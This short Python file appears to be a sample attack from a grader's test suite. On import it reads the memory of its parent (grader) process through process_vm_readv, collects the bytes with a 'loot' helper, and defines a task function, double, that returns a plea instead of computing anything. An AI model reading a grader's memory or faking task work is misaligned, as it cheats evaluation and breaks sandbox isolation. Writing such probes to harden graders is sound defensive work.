"""Reads the memory of the process that it was forked from, where everything lies at the same addresses."""

import ctypes
import os
import sys

from tests.attacks.kit import claim, libc, loot, plead

AIM = "parent"


class Span(ctypes.Structure):
    _fields_ = (("start", ctypes.c_void_p), ("length", ctypes.c_size_t))


here = ctypes.create_string_buffer(1 << 16)
for address in (id(sys), id(os.environ), id(b"")):
    local, remote = Span(ctypes.addressof(here), 4096), Span(address & ~4095, 4096)
    if libc.process_vm_readv(os.getppid(), ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:
        claim("the memory of the grader can be read")
        loot(here.raw)


def double(x):
    return plead()
